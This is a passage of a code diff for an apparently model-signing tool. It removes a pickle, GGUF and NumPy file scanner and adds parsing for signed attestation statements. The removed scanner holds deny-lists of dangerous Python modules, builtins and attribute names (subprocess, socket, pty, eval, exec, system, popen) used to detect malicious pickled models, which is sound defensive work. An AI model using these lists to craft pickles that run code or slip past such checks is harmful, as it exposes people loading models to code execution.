-      const s3 = shards.get(name2);
-      if (!s3) return plannedRanges("files", void 0, size);
-      return s3.end === size ? s3.ranges : [];
-    }
+    _type: STATEMENT_TYPE,
+    subject: [subject],
+    predicateType: OMS_PREDICATE_TYPE,
+    predicate: { serialization: opts.serialization, resources: opts.resources }
   };
 }
-var init_files = __esm({
-  "src/verify/files.ts"() {
-    "use strict";
-    init_errors();
-    init_engine();
-    init_enumerate();
-    init_paths();
-    init_serialize();
-    init_source();
-  }
-});
-
-// src/scan/npy.ts
-async function readNpyHeader(src) {
-  if (!await src.ensure(10)) return { ok: false, problem: "file is too short for a .npy header" };
-  const head = src.take(8);
-  if (!head.subarray(0, 6).equals(NPY_MAGIC)) return { ok: false, problem: "missing the \\x93NUMPY magic" };
-  const major = head[6];
-  if (major < 1 || major > 3) return { ok: false, problem: `unsupported .npy version ${major}` };
-  const len = major === 1 ? (await src.read(2)).readUInt16LE(0) : (await src.read(4)).readUInt32LE(0);
-  if (len > 1 << 20) return { ok: false, problem: `header length ${len} is implausibly large` };
-  if (!await src.ensure(len)) return { ok: false, problem: "header runs past the end of the file" };
-  const header = src.take(len).toString(major === 3 ? "utf8" : "latin1");
-  if (!/'descr'\s*:/.test(header)) return { ok: false, problem: "header has no descr" };
-  const objectDtype = /['"][|<>=]?O\d*['"]/.test(header) || /object/.test(header);
-  return { ok: true, objectDtype, header: header.trim() };
+function bad3(msg) {
+  throw reject("STATEMENT_MALFORMED", `signed statement is malformed: ${msg}`);
 }
-var NPY_MAGIC;
-var init_npy = __esm({
-  "src/scan/npy.ts"() {
-    "use strict";
-    NPY_MAGIC = Buffer.from([147, 78, 85, 77, 80, 89]);
-  }
-});
-
-// src/scan/detect.ts
-function ext(name2) {
-  const base2 = name2.slice(name2.lastIndexOf("/") + 1).toLowerCase();
-  const i = base2.lastIndexOf(".");
-  return i <= 0 ? "" : base2.slice(i);
+function str(v2, what) {
+  if (typeof v2 !== "string") bad3(`${what} must be a string`);
+  return v2;
 }
-function looksLikeOldPickle(head) {
-  const t = head.toString("latin1");
-  return /^\(?[ci][A-Za-z_][\w.]*\n[A-Za-z_][\w.]*\n[(pq)N}\]SVIFKJMXUR.\x85\x86\x87]/.test(t) || /^\((?:dp\d+\n|lp\d+\n|t[.Rp])/.test(t) || /^[}\]](?:q\x00|\(|\.)/.test(t);
-}
-function sniff(head, name2) {
-  if (head.length >= 4 && head[0] === 80 && head[1] === 75 && (head[2] === 3 && head[3] === 4 || head[2] === 5 && head[3] === 6)) return "zip";
-  if (head.length >= 6 && head.subarray(0, 6).equals(NPY_MAGIC)) return "npy";
-  if (head.length >= 4 && head.toString("latin1", 0, 4) === "GGUF") return "gguf";
-  if (head.length >= 9 && head[8] === 123 && head.readBigUInt64LE(0) < 100000000n) return "safetensors";
-  if (head.length >= 2 && head[0] === 128 && head[1] <= 5) return "pickle";
-  const e = ext(name2);
-  if (looksLikeOldPickle(head)) return "pickle";
-  if (e === ".safetensors") return "safetensors";
-  if (e === ".gguf") return "gguf";
-  if (e === ".npy") return "npy";
-  if (e === ".npz" || e === ".zip") return "zip";
-  if (e !== ".bin" && PICKLE_EXTENSIONS.includes(e)) return "pickle";
-  return "unknown";
-}
-function memberWorthScanning(name2) {
-  const e = ext(name2);
-  return PICKLE_EXTENSIONS.includes(e) || e === ".npy" || e === ".safetensors" || e === ".gguf";
-}
-var PICKLE_EXTENSIONS, SNIFF_BYTES;
-var init_detect = __esm({
-  "src/scan/detect.ts"() {
-    "use strict";
-    init_npy();
-    PICKLE_EXTENSIONS = [".pkl", ".pickle", ".bin", ".pt", ".pth", ".ckpt", ".joblib"];
-    SNIFF_BYTES = 64;
-  }
-});
-
-// src/scan/source.ts
-import { createReadStream } from "node:fs";
-var Truncated, ByteSource;
-var init_source2 = __esm({
-  "src/scan/source.ts"() {
-    "use strict";
-    Truncated = class extends Error {
-      constructor(at2) {
-        super(`unexpected end of data at offset ${at2}`);
-        this.at = at2;
-      }
-    };
-    ByteSource = class _ByteSource {
-      constructor(it2, size) {
-        this.it = it2;
-        this.size = size;
-      }
-      buf = Buffer.alloc(0);
-      off = 0;
-      done = false;
-      /** Absolute offset of the next unread byte. */
-      pos = 0;
-      static fromFile(file, start = 0, end) {
-        if (end !== void 0 && end <= start) return _ByteSource.fromBuffer(Buffer.alloc(0));
-        const s3 = createReadStream(file, { start, ...end !== void 0 ? { end: end - 1 } : {}, highWaterMark: 1 << 20 });
-        const src = new _ByteSource(s3[Symbol.asyncIterator](), end !== void 0 ? end - start : void 0);
-        src.pos = 0;
-        return src;
-      }
-      static fromBuffer(b2) {
-        const src = new _ByteSource((async function* () {
-        })(), b2.length);
-        src.buf = b2;
-        src.done = true;
-        return src;
-      }
-      static fromIterable(it2, size) {
-        return new _ByteSource(it2[Symbol.asyncIterator](), size);
-      }
-      get buffered() {
-        return this.buf.length - this.off;
-      }
-      static toBuf(v2) {
-        return typeof v2 === "string" ? Buffer.from(v2, "latin1") : Buffer.isBuffer(v2) ? v2 : Buffer.from(v2.buffer, v2.byteOffset, v2.byteLength);
-      }
-      /** Buffer at least n bytes; false when the data ends first. */
-      async ensure(n) {
-        if (this.buffered >= n) return true;
-        const parts = [this.buf.subarray(this.off)];
-        let have = parts[0].length;
-        while (have < n && !this.done) {
-          const r = await this.it.next();
-          if (r.done) {
-            this.done = true;
-            break;
-          }
-          const b2 = _ByteSource.toBuf(r.value);
-          parts.push(b2);
-          have += b2.length;
-        }
-        this.buf = parts.length === 1 ? parts[0] : Buffer.concat(parts, have);
-        this.off = 0;
-        return have >= n;
-      }
-      /** Only after ensure(n). */
-      u8() {
-        this.pos++;
-        return this.buf[this.off++];
-      }
-      /** Only after ensure(n); the returned view is valid until the next read. */
-      take(n) {
-        const b2 = this.buf.subarray(this.off, this.off + n);
-        this.off += n;
-        this.pos += n;
-        return b2;
-      }
-      peek(n) {
-        return this.buf.subarray(this.off, this.off + n);
-      }
-      async read(n) {
-        if (!await this.ensure(n)) throw new Truncated(this.pos + this.buffered);
-        return this.take(n);
-      }
-      /** Drop n bytes (streamed past, never buffered whole). */
-      async skip(n) {
-        while (n > 0) {
-          if (this.buffered === 0 && !await this.ensure(1)) throw new Truncated(this.pos);
-          const k2 = Math.min(n, this.buffered);
-          this.off += k2;
-          this.pos += k2;
-          n -= k2;
-        }
-      }
-      /** Read the rest and return how many bytes there were. */
-      async drain() {
-        let n = 0;
-        for (; ; ) {
-          if (this.buffered === 0 && !await this.ensure(1)) return n;
-          n += this.buffered;
-          this.pos += this.buffered;
-          this.off = this.buf.length;
-        }
-      }
-      /** A line ending in "\n" (without it), at most max bytes; undefined if longer. */
-      async line(max) {
-        let scanned = 0;
-        for (; ; ) {
-          const idx = this.buf.indexOf(10, this.off + scanned);
-          if (idx >= 0 && idx - this.off <= max) {
-            const b2 = this.buf.subarray(this.off, idx);
-            const n = idx - this.off + 1;
-            this.off += n;
-            this.pos += n;
-            return b2;
-          }
-          if (idx >= 0 || this.buffered > max) return void 0;
-          scanned = this.buffered;
-          if (!await this.ensure(this.buffered + 1)) throw new Truncated(this.pos + this.buffered);
-        }
-      }
-      async atEnd() {
-        return !await this.ensure(1);
-      }
-      async close() {
-        this.done = true;
-        try {
-          await this.it.return?.();
-        } catch {
-        }
-      }
-    };
-  }
-});
-
-// src/scan/gguf.ts
-async function checkGguf(src, size, file, limits, member) {
-  const findings = [];
-  const add = (code, message, severity = "high") => findings.push({ code, severity, file, ...member !== void 0 ? { member } : {}, message });
-  const left = () => size - src.pos;
-  const u323 = async () => (await src.read(4)).readUInt32LE(0);
-  const u64 = async (what) => {
-    const v2 = (await src.read(8)).readBigUInt64LE(0);
-    if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new Bad(`${what} ${v2} is impossibly large`);
-    return Number(v2);
-  };
-  let version = 0;
-  const count = async (what) => version === 1 ? u323() : u64(what);
-  const string = async (what, keep) => {
-    const n = await count(`${what} length`);
-    if (n > limits.maxGgufString) throw new Bad(`${what} length ${n} exceeds the ${limits.maxGgufString}-byte limit`);
-    if (n > left()) throw new Bad(`${what} length ${n} runs past the end of the file`);
-    if (!keep) {
-      await src.skip(n);
-      return void 0;
+function parseResources(v2, hashType) {
+  if (!Array.isArray(v2)) bad3("predicate.resources must be an array");
+  if (v2.length > MAX_RESOURCES) bad3(`more than ${MAX_RESOURCES} resources`);
+  return v2.map((r, i) => {
+    if (!isObject(r)) bad3(`resources[${i}] must be an object`);
+    const name2 = str(r.name, `resources[${i}].name`);
+    const digest = str(r.digest, `resources[${i}].digest`);
+    const algorithm = str(r.algorithm, `resources[${i}].algorithm`);
+    if (!HEX.test(digest)) bad3(`resources[${i}].digest is not lowercase hex`);
+    if (algorithm !== hashType && !algorithm.startsWith(`${hashType}-`)) {
+      bad3(`resources[${i}].algorithm "${algorithm}" does not match hash_type "${hashType}"`);
     }
-    return (await src.read(n)).toString("utf8");
-  };
-  try {
-    if (size < 8 || !await src.ensure(4) || src.peek(4).toString("latin1") !== "GGUF") {
-      const got = await src.ensure(4) ? JSON.stringify(src.peek(4).toString("latin1")) : "too few bytes";
-      add("GGUF_BAD_MAGIC", `not a GGUF file: magic is ${got}, expected "GGUF"`);
-      return findings;
-    }
-    await src.skip(4);
-    version = await u323();
-    if (version < 1 || version > 3) {
-      add("GGUF_VERSION", `unsupported GGUF version ${version} (known: 1-3)`);
-      return findings;
-    }
-    const tensors = await count("tensor count");
-    const kvs = await count("key/value count");
-    if (tensors > limits.maxGgufCount) throw new Bad(`tensor count ${tensors} exceeds the limit of ${limits.maxGgufCount}`);
-    if (kvs > limits.maxGgufCount) throw new Bad(`key/value count ${kvs} exceeds the limit of ${limits.maxGgufCount}`);
-    if (kvs * 12 + tensors * 24 > left()) throw new Bad(`${tensors} tensors and ${kvs} key/values cannot fit in ${size} bytes`);
-    let alignment = 32;
-    const value = async (type, key, depth) => {
-      const w2 = FIXED[type];
-      if (w2 !== void 0) {
-        if (key === "general.alignment" && type === 4) {
-          alignment = await u323();
-          return;
-        }
-        await src.read(w2);
-        return;
-      }
-      if (type === GGUF_STRING) {
-        await string(`value of ${key}`, false);
-        return;
-      }
-      if (type === GGUF_ARRAY) {
-        if (depth > 2) throw new Bad(`array nesting too deep in ${key}`);
-        const et2 = await u323();
-        const n = await count(`array length of ${key}`);
-        if (n > limits.maxGgufArray) throw new Bad(`array ${key} has ${n} elements, more than the limit of ${limits.maxGgufArray}`);
-        const ew = FIXED[et2];
-        if (ew !== void 0) {
-          if (n * ew > left()) throw new Bad(`array ${key} (${n} x ${ew} bytes) runs past the end of the file`);
-          await src.skip(n * ew);
-          return;
-        }
-        if (et2 !== GGUF_STRING && et2 !== GGUF_ARRAY) throw new Bad(`array ${key} has unknown element type ${et2}`);
-        if (n * 8 > left()) throw new Bad(`array ${key} of ${n} elements runs past the end of the file`);
-        if (et2 === GGUF_ARRAY) {
-          for (let i = 0; i < n; i++) await value(et2, key, depth + 1);
-          return;
-        }
-        const lenBytes = version === 1 ? 4 : 8;
-        for (let i = 0; i < n; i++) {
-          if (src.buffered < lenBytes && !await src.ensure(lenBytes)) throw new Truncated(src.pos + src.buffered);
-          const b2 = src.take(lenBytes);
-          const len = lenBytes === 4 ? b2.readUInt32LE(0) : Number(b2.readBigUInt64LE(0));
-          if (len > limits.maxGgufString) throw new Bad(`string ${i} of array ${key} is ${len} bytes, over the ${limits.maxGgufString}-byte limit`);
-          if (len > left()) throw new Bad(`string ${i} of array ${key} runs past the end of the file`);
-          if (src.buffered >= len) src.take(len);
-          else await src.skip(len);
-        }
-        return;
-      }
-      throw new Bad(`key ${key} has unknown value type ${type}`);
-    };
-    for (let i = 0; i < kvs; i++) {
-      const key = await string(`key ${i}`, true);
-      const type = await u323();
-      await value(type, JSON.stringify(key.slice(0, 120)), 0);
-    }
-    if (alignment === 0 || (alignment & alignment - 1) !== 0) throw new Bad(`general.alignment ${alignment} is not a power of two`);
-    const infos = [];
-    for (let i = 0; i < tensors; i++) {
-      const name2 = await string(`tensor ${i} name`, true);
-      const dims = await u323();
-      if (dims > MAX_DIMS) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} has ${dims} dimensions (at most ${MAX_DIMS})`);
-      let elems = 1n;
-      for (let d = 0; d < dims; d++) elems *= BigInt(await u64("dimension"));
-      const type = await u323();
-      const offset = await u64("tensor offset");
-      const block = GGML_BLOCKS[type];
-      let bytes;
-      if (block) {
-        if (elems % BigInt(block[0]) !== 0n) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} has ${elems} elements, not a multiple of its type's block of ${block[0]}`);
-        const b2 = elems / BigInt(block[0]) * BigInt(block[1]);
-        if (b2 > BigInt(size)) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} needs ${b2} bytes, more than the whole file`);
-        bytes = Number(b2);
-      } else if (type > 63) {
-        add("GGUF_TENSOR", `tensor ${JSON.stringify(name2.slice(0, 120))} has unknown type ${type}`, "medium");
-      }
-      infos.push({ name: name2, offset, bytes });
-    }
-    const dataStart = Math.ceil(src.pos / alignment) * alignment;
-    const dataLen = size - dataStart;
-    if (tensors > 0 && dataLen < 0) throw new Bad("tensor data would start past the end of the file");
-    for (const t of infos) {
-      const shown = JSON.stringify(t.name.slice(0, 120));
-      if (t.offset % alignment !== 0) add("GGUF_TENSOR", `tensor ${shown} offset ${t.offset} is not aligned to ${alignment}`);
-      if (t.offset + (t.bytes ?? 0) > dataLen) add("GGUF_TENSOR", `tensor ${shown} (offset ${t.offset}${t.bytes !== void 0 ? `, ${t.bytes} bytes` : ""}) lies outside the ${dataLen} data bytes`);
-    }
-    infos.sort((a, b2) => a.offset - b2.offset);
-    for (let i = 1; i < infos.length; i++) {
-      const p2 = infos[i - 1];
-      if (p2.bytes !== void 0 && p2.offset + p2.bytes > infos[i].offset) add("GGUF_TENSOR", `tensors ${JSON.stringify(p2.name.slice(0, 120))} and ${JSON.stringify(infos[i].name.slice(0, 120))} overlap`);
-    }
-  } catch (e) {
-    if (e instanceof Bad) add("GGUF_MALFORMED", e.message);
-    else if (e instanceof Truncated) add("GGUF_MALFORMED", `file ends inside the GGUF header (${e.message})`);
-    else throw e;
-  }
-  return findings;
+    return { name: name2, digest, algorithm };
+  });
 }
-var FIXED, GGUF_STRING, GGUF_ARRAY, MAX_DIMS, GGML_BLOCKS, Bad;
-var init_gguf = __esm({
-  "src/scan/gguf.ts"() {
-    "use strict";
-    init_source2();
-    FIXED = { 0: 1, 1: 1, 2: 2, 3: 2, 4: 4, 5: 4, 6: 4, 7: 1, 10: 8, 11: 8, 12: 8 };
-    GGUF_STRING = 8;
-    GGUF_ARRAY = 9;
-    MAX_DIMS = 4;
-    GGML_BLOCKS = {
-      0: [1, 4],
-      1: [1, 2],
-      2: [32, 18],
-      3: [32, 20],
-      6: [32, 22],
-      7: [32, 24],
-      8: [32, 34],
-      9: [32, 36],
-      10: [256, 84],
-      11: [256, 110],
-      12: [256, 144],
-      13: [256, 176],
-      14: [256, 210],
-      15: [256, 292],
-      24: [1, 1],
-      25: [1, 2],
-      26: [1, 4],
-      27: [1, 8],
-      28: [1, 8],
-      30: [1, 2]
-    };
-    Bad = class extends Error {
-    };
+function parseSerialization(v2) {
+  if (!isObject(v2)) bad3("predicate.serialization must be an object");
+  const method = v2.method;
+  if (method !== "files" && method !== "shards") bad3(`unknown serialization method ${JSON.stringify(method)}`);
+  const hashType = v2.hash_type;
+  if (!isHashAlgorithm(hashType)) bad3(`unknown hash_type ${JSON.stringify(hashType)}`);
+  const allow = v2.allow_symlinks;
+  if (typeof allow !== "boolean") bad3("serialization.allow_symlinks must be a boolean");
+  const out2 = { method, hash_type: hashType, allow_symlinks: allow };
+  if (v2.ignore_paths !== void 0) {
+    if (!Array.isArray(v2.ignore_paths) || !v2.ignore_paths.every((p2) => typeof p2 === "string")) bad3("ignore_paths must be an array of strings");
+    out2.ignore_paths = v2.ignore_paths;
   }
-});
-
-// src/scan/globals.ts
-function canonicalModule(module) {
-  const first = module.split(".")[0];
-  const mapped = PY2_MODULES[first];
-  return mapped === void 0 ? module : mapped + module.slice(first.length);
-}
-function underPrefix(full, prefix) {
-  return full === prefix || full.startsWith(`${prefix}.`);
-}
-function classifyGlobal(module, name2) {
-  const mod = canonicalModule(module);
-  const full = `${mod}.${name2}`;
-  if (ALLOWED.has(full) || TORCH_STORAGE.test(full) || NUMPY_DTYPE_CLASS.test(full)) return { verdict: "allowed" };
-  for (const m2 of DANGEROUS_MODULES) if (underPrefix(full, m2)) return { verdict: "dangerous", why: `${m2} is on the deny-list` };
-  const segs = full.split(".");
-  if (segs[0] === "builtins" && segs.length >= 2 && DANGEROUS_BUILTINS.has(segs[1])) return { verdict: "dangerous", why: `builtin ${segs[1]} can run code or reach any object` };
-  for (const s3 of segs.slice(1)) {
-    if (DANGEROUS_SEGMENTS.has(s3)) return { verdict: "dangerous", why: `reaches "${s3}" through attribute lookup` };
-    if (/^__.*__$/.test(s3)) return { verdict: "dangerous", why: `reaches the dunder attribute ${s3}` };
-  }
-  if (name2 === "" || module === "" || !/^[A-Za-z_][A-Za-z0-9_.]*$/.test(module) || !/^[A-Za-z_][A-Za-z0-9_.]*$/.test(name2)) {
-    return { verdict: "dangerous", why: "not a valid Python name" };
-  }
-  return { verdict: "unknown" };
-}
-var PY2_MODULES, TORCH_REBUILD, TORCH_DTYPES, ALLOWED, TORCH_STORAGE, NUMPY_DTYPE_CLASS, DANGEROUS_MODULES, DANGEROUS_BUILTINS, DANGEROUS_SEGMENTS;
-var init_globals = __esm({
-  "src/scan/globals.ts"() {
-    "use strict";
-    PY2_MODULES = { __builtin__: "builtins", copy_reg: "copyreg", exceptions: "builtins" };
-    TORCH_REBUILD = [
-      "_rebuild_tensor",
-      "_rebuild_tensor_v2",
-      "_rebuild_tensor_v3",
-      "_rebuild_parameter",
-      "_rebuild_parameter_with_state",
-      "_rebuild_sparse_tensor",
-      "_rebuild_sparse_csr_tensor",
-      "_rebuild_qtensor",
-      "_rebuild_nested_tensor",
-      "_rebuild_device_tensor_from_numpy",
-      "_rebuild_meta_tensor_no_storage",
-      "_rebuild_device_tensor_from_cpu_tensor"
-    ];
-    TORCH_DTYPES = [
-      "float16",
-      "float32",
-      "float64",
-      "bfloat16",
-      "half",
-      "float",
-      "double",
-      "complex32",
-      "complex64",
-      "complex128",
-      "cfloat",
-      "cdouble",
-      "uint8",
-      "uint16",
-      "uint32",
-      "uint64",
-      "int8",
-      "int16",
-      "int32",
-      "int64",
-      "short",
-      "int",
-      "long",
-      "bool",
-      "float8_e4m3fn",
-      "float8_e5m2",
-      "float8_e4m3fnuz",
-      "float8_e5m2fnuz",
-      "qint8",
-      "quint8",
-      "qint32",
-      "quint4x2",
-      "contiguous_format",
-      "channels_last",
-      "channels_last_3d",
-      "preserve_format"
-    ];
-    ALLOWED = /* @__PURE__ */ new Set([
-      ...TORCH_REBUILD.map((n) => `torch._utils.${n}`),
-      ...TORCH_DTYPES.map((n) => `torch.${n}`),
-      "torch.Size",
-      "torch.device",
-      "torch.Tensor",
-      "torch.nn.parameter.Parameter",
-      "torch._tensor._rebuild_from_type_v2",
-      "torch.serialization._get_layout",
-      "torch.sparse_coo",
-      "torch.strided",
-      // TorchScript archives rebuild lists and tensors with these.
-      "torch.jit._pickle.build_intlist",
-      "torch.jit._pickle.build_doublelist",
-      "torch.jit._pickle.build_boollist",
-      "torch.jit._pickle.build_tensorlist",
-      "torch.jit._pickle.build_tensor_from_id",
-      "torch.jit._pickle.restore_type_tag",
-      "collections.OrderedDict",
-      "builtins.set",
-      "builtins.frozenset",
-      "builtins.dict",
-      "builtins.list",
-      "builtins.tuple",
-      "builtins.bytearray",
-      "builtins.bytes",
-      "builtins.str",
-      "builtins.int",
-      "builtins.float",
-      "builtins.complex",
-      "builtins.bool",
-      "builtins.slice",
-      "builtins.object",
-      "_codecs.encode",
-      // protocol 2 writes bytes as _codecs.encode(str, "latin1")
-      "copyreg._reconstructor",
-      // protocol 0/1 object rebuild; the class it builds is checked on its own
-      "numpy.core.multiarray._reconstruct",
-      "numpy._core.multiarray._reconstruct",
-      "numpy.core.multiarray.scalar",
-      "numpy._core.multiarray.scalar",
-      "numpy.core.numeric._frombuffer",
-      "numpy._core.numeric._frombuffer",
-      "numpy.dtype",
-      "numpy.ndarray",
-      "joblib.numpy_pickle.NumpyArrayWrapper",
-      "sklearn.externals.joblib.numpy_pickle.NumpyArrayWrapper"
-    ]);
-    TORCH_STORAGE = /^torch\.(?:cuda\.)?[A-Za-z0-9]*Storage$/;
-    NUMPY_DTYPE_CLASS = /^numpy\.dtypes\.[A-Za-z0-9]+DType$/;
-    DANGEROUS_MODULES = [
-      "os",
-      "posix",
-      "nt",
-      "posixpath",
-      "ntpath",
-      "subprocess",
-      "pty",
-      "sys",
-      "socket",
-      "ssl",
-      "shutil",
-      "runpy",
-      "importlib",
-      "imp",
-      "pkgutil",
-      "zipimport",
-      "pickle",
-      "_pickle",
-      "cPickle",
-      "pickletools",
-      "marshal",
-      "dill",
-      "cloudpickle",
-      "joblib.load",
-      "shelve",
-      "types",
-      "code",
-      "codeop",
-      "ctypes",
-      "_ctypes",
-      "cffi",
-      "multiprocessing",
-      "concurrent",
-      "threading",
-      "_thread",
-      "asyncio",
-      "signal",
-      "resource",
-      "webbrowser",
-      "requests",
-      "urllib",
-      "urllib2",
-      "urllib3",
-      "httplib",
-      "http",
-      "httpx",
-      "aiohttp",
-      "ftplib",
-      "smtplib",
-      "telnetlib",
-      "poplib",
-      "imaplib",
-      "xmlrpc",
-      "socketserver",
-      "commands",
-      "pdb",
-      "bdb",
-      "timeit",
-      "cProfile",
-      "profile",
-      "trace",
-      "doctest",
-      "io",
-      "_io",
-      "tempfile",
-      "glob",
-      "fileinput",
-      "pathlib",
-      "sqlite3",
-      "builtins.eval",
-      "operator.attrgetter",
-      "operator.methodcaller",
-      "gc",
-      "inspect",
-      "site",
-      "sysconfig",
-      "venv",
-      "ensurepip",
-      "pip",
-      "setuptools",
-      "distutils",
-      "platform",
-      "uuid._popen",
-      "torch.hub",
-      "torch.load",
-      "torch.storage._load_from_bytes",
-      "torch.serialization.load",
-      "torch.jit.load",
-      "torch.jit._load_for_lite_interpreter",
-      "torch._dynamo",
-      "torch.utils.cpp_extension",
-      "numpy.load",
-      "numpy.testing",
-      "numpy.f2py",
-      "numpy.distutils",
-      "numpy.ctypeslib",
-      "pandas.read_pickle",
-      "keras.models",
-      "tensorflow.io",
-      "bz2",
-      "lzma",
-      "gzip",
-      "zipfile",
-      "tarfile",
-      "mmap",
-      "fcntl",
-      "termios",
-      "tty",
-      "pwd",
-      "grp",
-      "crypt",
-      "spwd",
-      "syslog",
-      "select"
-    ];
-    DANGEROUS_BUILTINS = /* @__PURE__ */ new Set([
-      "eval",
-      "exec",
-      "execfile",
-      "compile",
-      "open",
-      "file",
-      "getattr",
-      "setattr",
-      "delattr",
-      "hasattr",
-      "__import__",
-      "globals",
-      "locals",
-      "vars",
-      "input",
-      "raw_input",
-      "breakpoint",
-      "apply",
-      "reload",
-      "help",
-      "memoryview",
-      "exit",
-      "quit"
-    ]);
-    DANGEROUS_SEGMENTS = /* @__PURE__ */ new Set([
-      "os",
-      "posix",
-      "nt",
-      "subprocess",
-      "sys",
-      "socket",
-      "shutil",
-      "runpy",
-      "importlib",
-      "pickle",
-      "marshal",
-      "builtins",
-      "__builtin__",
-      "__builtins__",
-      "system",
-      "popen",
-      "spawn",
-      "execv",
-      "execve",
-      "execl",
-      "execvp",
-      "fork",
-      "eval",
-      "exec",
-      "compile",
-      "getattr",
-      "setattr",
-      "__import__",
-      "import_module",
-      "load",
-      "loads",
-      "open"
-    ]);
-  }
-});
-
-// src/scan/pickle.ts
-import { isUtf8 as isUtf82 } from "node:buffer";
-function describe2(v2) {
-  if (v2 === void 0) return "nothing (empty stack)";
-  switch (v2.k) {
-    case "mark":
-      return "a MARK";
-    case "str":
-      return JSON.stringify(v2.s.slice(0, 80));
-    case "global":
-      return `the global ${v2.g.module}.${v2.g.name}`;
-    case "obj":
-      return `an object made by ${v2.g.module}.${v2.g.name}`;
-    default:
-      return `a ${v2.what}`;
-  }
-}
-function decodeQuoted(line) {
-  const t = line.toString("latin1");
-  if (t.length < 2 || t[0] !== "'" && t[0] !== '"' || t[t.length - 1] !== t[0]) return void 0;
-  const body = t.slice(1, -1);
-  if (!body.includes("\\")) return body;
-  let out2 = "";
-  for (let i = 0; i < body.length; i++) {
-    const c = body[i];
-    if (c !== "\\") {
-      out2 += c;
-      continue;
-    }
-    const e = body[++i];
-    if (e === void 0) return void 0;
-    const simple = { n: "\n", t: "	", r: "\r", "\\": "\\", "'": "'", '"': '"', a: "\x07", b: "\b", f: "\f", v: "\v", "\n": "" };
-    if (simple[e] !== void 0) out2 += simple[e];
-    else if (e === "x" && /^[0-9a-fA-F]{2}$/.test(body.slice(i + 1, i + 3))) {
-      out2 += String.fromCharCode(parseInt(body.slice(i + 1, i + 3), 16));
-      i += 2;
-    } else if (/[0-7]/.test(e)) {
-      const m2 = /^[0-7]{1,3}/.exec(body.slice(i))[0];
-      out2 += String.fromCharCode(parseInt(m2, 8) & 255);
-      i += m2.length - 1;
-    } else out2 += `\\${e}`;
+  if (method === "shards") {
+    const s3 = v2.shard_size;
+    if (typeof s3 !== "number" || !Number.isSafeInteger(s3) || s3 <= 0) bad3("shard_size must be a positive integer");
+    out2.shard_size = s3;
   }
   return out2;
 }
-function decodeRawUnicode(line) {
-  const t = line.toString("latin1");
-  let out2 = "";
-  for (let i = 0; i < t.length; i++) {
-    if (t[i] === "\\" && (t[i + 1] === "u" || t[i + 1] === "U")) {
-      const n = t[i + 1] === "u" ? 4 : 8;
-      const hex = t.slice(i + 2, i + 2 + n);
-      if (!new RegExp(`^[0-9a-fA-F]{${n}}$`).test(hex)) return void 0;
-      const cp2 = parseInt(hex, 16);
-      if (cp2 > 1114111) return void 0;
-      out2 += String.fromCodePoint(cp2);
-      i += 1 + n;
-    } else out2 += t[i];
+function parseMetadata(subject) {
+  const ann = subject.annotations;
+  if (ann === void 0) return void 0;
+  if (!isObject(ann)) bad3("subject annotations must be an object");
+  const m2 = ann.modelsign;
+  if (m2 === void 0) return void 0;
+  if (!isObject(m2)) bad3("annotations.modelsign must be an object");
+  for (const k2 of ["name", "version", "license", "created", "tool"]) {
+    if (m2[k2] !== void 0 && typeof m2[k2] !== "string") bad3(`annotations.modelsign.${k2} must be a string`);
   }
-  return out2;
+  return { ...m2, name: typeof m2.name === "string" ? m2.name : str(subject.name, "subject.name") };
 }
-function utf8(b2) {
-  if (!isUtf82(b2)) throw new Malformed("string is not valid UTF-8");
-  return b2.toString("utf8");
-}
-async function walkPickles(src, opts) {
-  const { limits } = opts;
-  const imports = /* @__PURE__ */ new Map();
-  const findings = [];
-  const base2 = { file: opts.file, ...opts.member !== void 0 ? { member: opts.member } : {} };
-  const add = (severity, code, message, offset, global2) => {
-    findings.push({ ...base2, code, severity, message, ...offset !== void 0 ? { offset } : {}, ...global2 !== void 0 ? { global: global2 } : {} });
-  };
-  let opcodes = 0;
-  let pickles = 0;
-  let stringBytes = 0;
-  let legacyTorch = false;
-  const interned = /* @__PURE__ */ new Map();
-  const globalOf = (module, name2) => {
-    const k2 = `${module}
-${name2}`;
-    let g2 = interned.get(k2);
-    if (!g2) {
-      if (interned.size >= limits.maxImports) throw new LimitHit(`more than ${limits.maxImports} distinct imported globals`);
-      g2 = { module, name: name2 };
-      interned.set(k2, g2);
-    }
-    return g2;
-  };
-  const record = (g2, via, use) => {
-    let imp = imports.get(g2);
-    if (!imp) {
-      imp = { module: g2.module, name: g2.name, via: [], usedBy: [], verdict: classifyGlobal(g2.module, g2.name).verdict, ...opts.member !== void 0 ? { member: opts.member } : {} };
-      imports.set(g2, imp);
-    }
-    if (via && !imp.via.includes(via)) imp.via.push(via);
-    if (use && !imp.usedBy.includes(use)) imp.usedBy.push(use);
-  };
-  const used = (v2, use) => {
-    if (v2 && (v2.k === "global" || v2.k === "obj")) record(v2.g, void 0, use);
-  };
-  const str3 = (b2, enc) => {
-    if (b2.length > MAX_KEPT_STRING || stringBytes + b2.length > limits.maxStringBytes) return LONGSTR;
-    stringBytes += b2.length;
-    if (enc === "latin1") return { k: "str", s: b2.toString("latin1") };
-    return { k: "str", s: utf8(b2) };
-  };
-  const walkOne = async () => {
-    const stack = [];
-    const marks = [];
-    const memo = /* @__PURE__ */ new Map();
-    const push = (v2) => {
-      if (stack.length >= limits.maxStack) throw new LimitHit(`stack deeper than ${limits.maxStack}`);
-      stack.push(v2);
-    };
-    const pop = () => {
-      if (stack.length === 0 || marks.length > 0 && stack.length <= marks[marks.length - 1]) throw new Malformed("pop from an empty stack");
-      return stack.pop();
-    };
-    const popMark = () => {
-      const m2 = marks.pop();
-      if (m2 === void 0) throw new Malformed("no MARK to pop to");
-      return stack.splice(m2);
-    };
-    const top = () => {
-      if (stack.length === 0) throw new Malformed("empty stack");
-      return stack[stack.length - 1];
-    };
-    const fixed = (n) => {
-      if (src.buffered < n) throw new Truncated(src.pos + src.buffered);
-      return src.take(n);
-    };
-    const size8 = (b2) => {
-      const v2 = b2.readBigUInt64LE(0);
-      if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new Malformed("length too large");
-      return Number(v2);
-    };
-    const lenStr = async (n, enc) => {
-      if (n > MAX_KEPT_STRING) {
-        await src.skip(n);
-        return LONGSTR;
-      }
-      if (src.buffered < n) await src.ensure(n);
-      return str3(fixed(n), enc);
-    };
-    const skipBytes = async (n) => {
-      if (src.buffered >= n) src.take(n);
-      else await src.skip(n);
-      return BYTES;
-    };
-    const line = async (what) => {
-      const l = await src.line(MAX_LINE);
